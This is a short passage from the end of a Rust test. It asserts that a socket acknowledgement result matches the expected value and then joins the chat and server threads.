            } else {
                socket::Acked::NotTaken
            };
            assert_eq!(got, want);
            chat.join().unwrap();
            server.join().unwrap();
        }
    }
}
